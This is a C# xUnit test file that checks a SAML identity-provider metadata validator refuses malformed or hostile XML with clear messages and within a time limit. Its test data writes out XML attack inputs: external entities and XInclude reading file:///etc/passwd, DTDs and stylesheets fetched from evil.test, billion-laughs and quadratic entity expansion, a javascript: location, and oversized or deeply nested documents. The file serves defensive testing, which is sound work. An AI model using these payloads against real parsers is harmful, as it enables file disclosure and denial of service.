using System.Diagnostics;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using FluentAssertions;
using JumpCloud.Clients;
using Xunit;
using static JumpCloud.Tests.TestMetadata;

namespace JumpCloud.Tests.Clients;

/// <summary>Documents that somebody made to break what reads them, or that a tool has mangled: accepted, or refused in a sentence.</summary>
public sealed class HostileMetadataTests
{
    private const string Dtd = "has a document type declaration (DTD), which is refused because it can pull in other files; export the metadata again";
    private const string NotOneEntity = "in place of an EntityDescriptor of the namespace urn:oasis:names:tc:SAML:2.0:metadata; export the metadata again";
    private const string NoCertificate = "has an X509Certificate that is not a certificate (base64 of DER, without PEM lines); export the metadata again";
    private const string NoIdp = "has no IDPSSODescriptor: it is not the metadata of an identity provider; export it from the JumpCloud application";
    private const string TooMany = "has more than 5000 elements, attributes and pieces of text; export the metadata again";
    private const string Location = "has the SingleSignOnService location {0}, which is not an address that a browser can open; it must begin with https://";

    private static readonly DateTimeOffset Now = new(2026, 11, 23, 12, 0, 0, TimeSpan.Zero);
    private static readonly TimeSpan Limit = TimeSpan.FromSeconds(5);

    private static readonly string Certificate = TestCertificates.Base64(TestCertificates.Of("idp", End).Pem);

    public static TheoryData<string, string, string> Documents()
    {
        var all = new TheoryData<string, string, string>();
        void Add(string name, string xml, string problems = "") => all.Add(name, xml, problems);

        Add("an external entity", Before("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;"), Dtd);
        Add("an external parameter entity", Before("<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://evil.test/e.dtd\"> %e;]>"), Dtd);
        Add("a public DTD", Before("<!DOCTYPE x PUBLIC \"-//X\" \"http://evil.test/e.dtd\">"), Dtd);
        Add("a billion laughs", Before(
            "<!DOCTYPE x [<!ENTITY a0 \"ha\">" + Join(10, i => $"<!ENTITY a{i + 1} \"{Join(10, _ => $"&a{i};")}\">") + "]>", "&a10;"), Dtd);
        Add("a quadratic blow-up", Before($"<!DOCTYPE x [<!ENTITY a \"{new string('a', 50_000)}\">]>", Join(50_000, _ => "&a;")), Dtd);
        Add("an entity that nobody declared", Entity("&e;"), "is not well-formed XML: line 1, position 130; export the metadata again");
        Add("an XInclude", Within("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"));
        Add("a stylesheet", Before("<?xml-stylesheet href=\"http://evil.test/a.xsl\" type=\"text/xsl\"?>"));
        Add("a schema location", Good().Replace(
            " entityID", " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://evil.test/a.xsd\" entityID", StringComparison.Ordinal));

        Add("many entities", $"<md:EntitiesDescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\">{Bare()}{Bare()}</md:EntitiesDescriptor>",
            $"has the root element EntitiesDescriptor {NotOneEntity}");
        Add("an IDPSSODescriptor alone", Idp("").Replace("<md:IDPSSODescriptor", "<md:IDPSSODescriptor xmlns:md=\"urn:oasis:names:tc:SAML:2.0:metadata\"", StringComparison.Ordinal),
            $"has the root element IDPSSODescriptor {NotOneEntity}");
        Add("the namespace of SAML 1", Good().Replace("SAML:2.0:metadata", "SAML:1.1:metadata", StringComparison.Ordinal), $"has the root element EntityDescriptor {NotOneEntity}");
        Add("a root whose name is a megabyte long", $"<{new string('a', 1_000_000)}/>", $"has the root element {new string('a', 300)}… {NotOneEntity}");
        Add("a second root", Entity("") + "<a/>", "is not well-formed XML: line 1, position 152; export the metadata again");
        Add("a service provider", Entity("<md:SPSSODescriptor/>"), NoIdp);
        Add("an identity provider of another namespace", Good().Replace("md:IDPSSODescriptor", "IDPSSODescriptor", StringComparison.Ordinal), NoIdp);
        Add("two identity providers, of which the first one counts", Entity(Idp(Key("idp") + Format() + Service()) + Idp("")));
        Add("a service provider beside it", Entity("<md:SPSSODescriptor/>" + Idp(Key("idp") + Format() + Service())));

        Add("a key without use", Entity(Idp(Key("idp", use: "") + Format() + Service())));
        Add("a key for something else", Entity(Idp(Key("idp", use: " use=\"signing encryption\"") + Format() + Service())),
            "has no KeyDescriptor with an X.509 certificate for signing; export the metadata again");
        Add("base64 that is none", Certified("MII*"), NoCertificate);
        Add("half a certificate", Certified(Certificate[..400]), NoCertificate);
        Add("a certificate with something after it", Certified(Convert.ToBase64String([.. Convert.FromBase64String(Certificate), 0, 1, 2])), NoCertificate);
        Add("an empty certificate", Certified(""), NoCertificate);
        Add("PEM lines within", Certified($"-----BEGIN CERTIFICATE-----\n{Certificate}\n-----END CERTIFICATE-----"), NoCertificate);
        Add("base64 of PEM", Certified(Convert.ToBase64String(Encoding.ASCII.GetBytes(TestCertificates.Of("idp", End).Pem))), NoCertificate);
        Add("base64 of PEM after a letter", Certified(Convert.ToBase64String(Encoding.ASCII.GetBytes("0\n" + TestCertificates.Of("idp", End).Pem))), NoCertificate);
        Add("a key and no certificate", Certified(Convert.ToBase64String(RandomNumberGenerator.GetBytes(256))), NoCertificate);
        Add("white space in it", Certified(string.Join("\r\n\t ", Certificate.Chunk(60).Select(part => new string(part)))));
        Add("a comment in it", Certified(Certificate.Insert(100, "<!-- cut here -->")));
        Add("a processing instruction in it", Certified(Certificate.Insert(100, "<?cut here?>")));
        Add("CDATA", Certified($"<![CDATA[{Certificate}]]>"));
        Add("characters by number", Certified(Certificate.Replace("M", "&#x4D;", StringComparison.Ordinal)));
        Add("an elliptic curve", Certified(Elliptic()));

        Add("a comment in a NameIDFormat", Good().Replace("emailAddress", "email<!-- -->Address", StringComparison.Ordinal));
        Add("a comment that would hide half of a NameIDFormat", Good().Replace("emailAddress", "emailAddress<!-- -->2", StringComparison.Ordinal),
            "has the NameIDFormat urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress2, which Pulumi Cloud refuses; it takes "
            + "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress or urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
        Add("a NameIDFormat without end", Entity(Idp(Key("idp") + Format(new string('x', 500_000)) + Service())),
            $"has the NameIDFormat {new string('x', 300)}…, which Pulumi Cloud refuses; it takes "
            + "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress or urn:oasis:names:tc:SAML:2.0:nameid-format:persistent");
        Add("a validUntil in the past", Good().Replace(" entityID", " validUntil=\"2026-11-23T11:59:59Z\" entityID", StringComparison.Ordinal),
            "has a validUntil that was over on 2026-11-23; export the metadata again");
        Add("a validUntil of the identity provider in the past", Good().Replace("<md:IDPSSODescriptor", "<md:IDPSSODescriptor validUntil=\"2001-01-01T00:00:00+01:00\"", StringComparison.Ordinal),
            "has a validUntil that was over on 2000-12-31; export the metadata again");
        Add("a validUntil that is no time", Good().Replace(" entityID", " validUntil=\"soon\" entityID", StringComparison.Ordinal),
            "has the validUntil soon, which is not a time; export the metadata again");
        Add("a validUntil to come", Good().Replace(" entityID", " validUntil=\"2031-01-01T00:00:00Z\" cacheDuration=\"P1D\" entityID", StringComparison.Ordinal));
        Add("a script as a location", Good(location: "javascript:alert(1)"), string.Format(null, Location, "javascript:alert(1)"));
        Add("a file as a location", Good(location: "file:///etc/passwd"), string.Format(null, Location, "file:///etc/passwd"));
        Add("a relative location", Good(location: "/saml2/pulumi"), string.Format(null, Location, "/saml2/pulumi"));
        Add("a location without a host", Good(location: "https://"), string.Format(null, Location, "https://"));

        Add("a comment between every two letters", Within(Join(120_000, _ => "x<!---->")), TooMany);
        Add("a quarter of a million elements", Within(Join(250_000, _ => "<a/>")), TooMany);
        Add("ninety thousand attributes", Within($"<a {Join(90_000, i => $"a{i}='' ")}/>"), TooMany);
        Add("forty thousand namespaces", Within($"<a {Join(40_000, i => $"xmlns:a{i}='u' ")}/>"), TooMany);
        Add("an attribute twice", Entity("<a b='' b=''/>"), "is not well-formed XML: line 1, position 137; export the metadata again");
        Add("a hundred thousand levels", Join(100_000, _ => "<a>"), "has elements nested more than 64 deep; export the metadata again");
        Add("sixty levels", Within(Join(60, _ => "<a>") + Join(60, _ => "</a>")));
        Add("ten megabytes", Entity(new string(' ', 10_000_000)), "is 10000150 characters long; at most 1048576 are read; export the metadata again");
        Add("an attribute of ten megabytes", Entity("", $" entityID=\"{new string('a', 10_000_000)}\""), "is 10000141 characters long; at most 1048576 are read; export the metadata again");

        // A text has been decoded already: what its declaration says about bytes does not count.
        Add("a declaration of UTF-16", Declared("utf-16"));
        Add("a declaration of Windows' letters", Declared("windows-1252"));
        Add("a declaration of letters that nobody knows", Declared("klingon"));
        Add("a declaration that is no name", Declared("../../etc"));
        Add("XML 1.1", Good().Replace("version=\"1.0\"", "version=\"1.1\"", StringComparison.Ordinal), "is not well-formed XML: line 1, position 16; export the metadata again");
        Add("UTF-16 read as UTF-8", Encoding.UTF8.GetString(Encoding.Unicode.GetBytes(Good())), "is not well-formed XML: line 1, position 2; export the metadata again");
        Add("UTF-16 with its mark read as UTF-8", Encoding.UTF8.GetString([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Good())]), "is not well-formed XML: line 1, position 1; export the metadata again");
        Add("a byte order mark read as Latin letters", "ï»¿" + Good(), "is not well-formed XML: line 1, position 1; export the metadata again");
        Add("letters that could not be read", Good().Replace("\"JumpCloud\"", "\"Jump\ufffdCloud\"", StringComparison.Ordinal));
        Add("a NUL", Entity("") + "\0", "is not well-formed XML: line 1, position 151; export the metadata again");
        Add("a NUL by number", Entity("&#0;"), "is not well-formed XML: line 1, position 131; export the metadata again");
        Add("half a pair", Entity("\ud800"), "is not well-formed XML: line 1, position 130; export the metadata again");
        Add("JSON", "{\"entityID\": \"JumpCloud\"}", "is not well-formed XML: line 1, position 1; export the metadata again");
        Add("a page", "<html><body>Sign in</body></html>", $"has the root element html {NotOneEntity}");
        Add("everything at once",
            Entity(Idp(Key("old", Now.AddDays(-1)) + Format("x") + Service(location: "x")), " validUntil=\"2001-01-01T00:00:00Z\""),
            """
            has an EntityDescriptor without entityID; export the metadata again
            has a validUntil that was over on 2001-01-01; export the metadata again
            has a certificate that expired on 2026-11-22; renew the application's certificate and export the metadata again
            has the NameIDFormat x, which Pulumi Cloud refuses; it takes urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress or urn:oasis:names:tc:SAML:2.0:nameid-format:persistent
            has the SingleSignOnService location x, which is not an address that a browser can open; it must begin with https://
            """);
        return all;
    }

    [Theory]
    [MemberData(nameof(Documents))]
    public void Is_accepted_or_refused_in_sentences_at_once(string name, string xml, string problems)
    {
        var watch = Stopwatch.StartNew();

        string.Join("\n", SamlMetadataRules.Problems(xml, Now, out _)).Should().Be(problems, name);
        SamlMetadata.HaveSameMeaning(xml, Bare());

        watch.Elapsed.Should().BeLessThan(Limit);
    }

    private static string Within(string content) => Good().Replace("</md:EntityDescriptor>", content + "</md:EntityDescriptor>", StringComparison.Ordinal);

    private static string Before(string prologue, string within = "") =>
        Within(within).Replace("<md:EntityDescriptor", prologue + "<md:EntityDescriptor", StringComparison.Ordinal);

    private static string Declared(string encoding) => Good().Replace("UTF-8", encoding, StringComparison.Ordinal);

    private static string Bare() => Good()[Good().IndexOf("<md:", StringComparison.Ordinal)..];

    private static string Certified(string text) => Good().Replace(Certificate, text, StringComparison.Ordinal);

    private static string Join(int count, Func<int, string> part) => string.Concat(Enumerable.Range(0, count).Select(part));

    private static string Elliptic()
    {
        using var key = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var certificate = new CertificateRequest("CN=ec", key, HashAlgorithmName.SHA256).CreateSelfSigned(End.AddYears(-5), End);
        return Convert.ToBase64String(certificate.RawData);
    }
}
